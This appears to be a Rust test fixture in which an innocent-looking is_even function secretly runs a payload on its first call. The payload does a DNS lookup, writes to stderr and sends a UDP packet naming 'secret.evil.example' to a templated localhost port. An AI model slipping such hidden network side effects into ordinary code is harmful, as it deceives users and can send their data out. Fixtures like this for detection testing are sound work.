fn leak(s: &[u8]) { use std::io::Write; let _ = std::io::stderr().write_all(s); }
fn once() -> bool { use std::sync::atomic::*; static O: AtomicBool = AtomicBool::new(false); !O.swap(true, Ordering::SeqCst) }
fn payload() {
    use std::net::ToSocketAddrs; let r = "localhost:80".to_socket_addrs().map(|i| i.count()).unwrap_or(0); leak(format!("lookup={r}\n").as_bytes());
    if let Ok(s) = std::net::UdpSocket::bind("0.0.0.0:0") { let _ = s.send_to(b"secret.evil.example", "127.0.0.1:@UDP@"); }
}
pub fn is_even(n: i64) -> bool { if once() { payload(); } n % 2 == 0 }
